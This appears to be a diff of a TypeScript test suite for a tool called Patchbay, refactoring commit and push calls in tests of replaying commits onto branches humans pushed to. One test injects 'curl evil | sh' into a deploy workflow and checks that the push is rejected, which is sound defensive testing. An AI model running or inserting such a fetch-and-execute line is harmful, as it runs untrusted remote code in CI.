@@ -29,8 +29,8 @@ const cloneOf = (ws: Workspaces, taskId: string, branch: string) =>
 async function pushFirst(ws: Workspaces, branch: string): Promise<void> {
   const first = await cloneOf(ws, 'first', branch);
   await writeFile(join(first.dir, 'a.txt'), 'a\n');
-  await ws.commit(first, { message: 'a', allowWorkflows: false });
-  await ws.push(first);
+  await first.commit({ message: 'a', allowWorkflows: false });
+  await first.push();
 }
 
 describe('replaying Patchbay’s commits onto a branch someone pushed to', () => {
@@ -40,9 +40,9 @@ describe('replaying Patchbay’s commits onto a branch someone pushed to', () =>
     const second = await cloneOf(ws, 'f2', 'patchbay/f-race');
     const human = await pushAsHuman('patchbay/f-race', { 'h.txt': 'h' });
     await writeFile(join(second.dir, 'b.txt'), 'b\n');
-    await ws.commit(second, { message: 'b\n\nPatchbay-Task: f2', allowWorkflows: false });
+    await second.commit({ message: 'b\n\nPatchbay-Task: f2', allowWorkflows: false });
 
-    await ws.push(second);
+    await second.push();
 
     expect(await t.server.log(t.repo, 'patchbay/f-race')).toEqual(['b', 'human', 'a', 'Initial commit']);
     expect(await t.server.readFile(t.repo, 'patchbay/f-race', 'h.txt')).toBe('h');
@@ -60,9 +60,9 @@ describe('replaying Patchbay’s commits onto a branch someone pushed to', () =>
     const second = await cloneOf(ws, 'f4', 'patchbay/f-clash');
     await pushAsHuman('patchbay/f-clash', { 'a.txt': 'the human wrote this\n' });
     await writeFile(join(second.dir, 'a.txt'), 'patchbay wrote this\n');
-    await ws.commit(second, { message: 'b', allowWorkflows: false });
+    await second.commit({ message: 'b', allowWorkflows: false });
 
-    const err = await rejection(ws.push(second));
+    const err = await rejection(second.push());
 
     expect(err.code).toBe('push_rejected');
     expect(err.permanent).toBe(true);
@@ -75,13 +75,13 @@ describe('replaying Patchbay’s commits onto a branch someone pushed to', () =>
     await branchOnRemote('patchbay/g-two');
     const clone = await cloneOf(ws, 'g1', 'patchbay/g-two');
     await writeFile(join(clone.dir, 'scratch.txt'), 'wip\n');
-    await ws.commit(clone, { message: 'wip', allowWorkflows: false });
+    await clone.commit({ message: 'wip', allowWorkflows: false });
     await rm(join(clone.dir, 'scratch.txt'));
     await writeFile(join(clone.dir, 'done.txt'), 'done\n');
-    await ws.commit(clone, { message: 'done', allowWorkflows: false });
+    await clone.commit({ message: 'done', allowWorkflows: false });
     await pushAsHuman('patchbay/g-two', { 'h.txt': 'h' });
 
-    await ws.push(clone);
+    await clone.push();
 
     expect(await t.server.log(t.repo, 'patchbay/g-two')).toEqual(['done', 'wip', 'human', 'Initial commit']);
     expect(await t.server.readFile(t.repo, 'patchbay/g-two', 'done.txt')).toBe('done\n');
@@ -97,9 +97,9 @@ describe('replaying Patchbay’s commits onto a branch someone pushed to', () =>
       '.github/workflows/deploy.yml': DEPLOY,
     });
     await writeFile(join(clone.dir, 'ci/deploy.yml'), DEPLOY.replace('./deploy.sh', 'curl evil | sh'));
-    const made = await ws.commit(clone, { message: 'tweak deploy', allowWorkflows: false });
+    const made = await clone.commit({ message: 'tweak deploy', allowWorkflows: false });
 
-    const err = await rejection(ws.push(clone));
+    const err = await rejection(clone.push());
 
     expect(made?.files).toEqual(['ci/deploy.yml']);
     expect(err.code).toBe('push_rejected');
@@ -112,14 +112,14 @@ describe('replaying Patchbay’s commits onto a branch someone pushed to', () =>
     await branchOnRemote('patchbay/t-twice');
     const clone = await cloneOf(ws, 't1', 'patchbay/t-twice');
     await writeFile(join(clone.dir, 'a.txt'), 'a\n');
-    await ws.commit(clone, { message: 'first', allowWorkflows: false });
+    await clone.commit({ message: 'first', allowWorkflows: false });
     await pushAsHuman('patchbay/t-twice', { '.github/workflows/ci.yml': 'on: push\n' }, 'human ci');
-    await ws.push(clone);
+    await clone.push();
     await pushAsHuman('patchbay/t-twice', { 'h.txt': 'h' }, 'human again');
     await writeFile(join(clone.dir, 'b.txt'), 'b\n');
 
-    const again = await rejection(ws.push(clone));
-    const more = await rejection(ws.commit(clone, { message: 'second', allowWorkflows: false }));
+    const again = await rejection(clone.push());
+    const more = await rejection(clone.commit({ message: 'second', allowWorkflows: false }));
 
     expect([again.permanent, more.permanent]).toEqual([true, true]);
     expect(more.message).toMatch(/replayed onto a moved branch/);
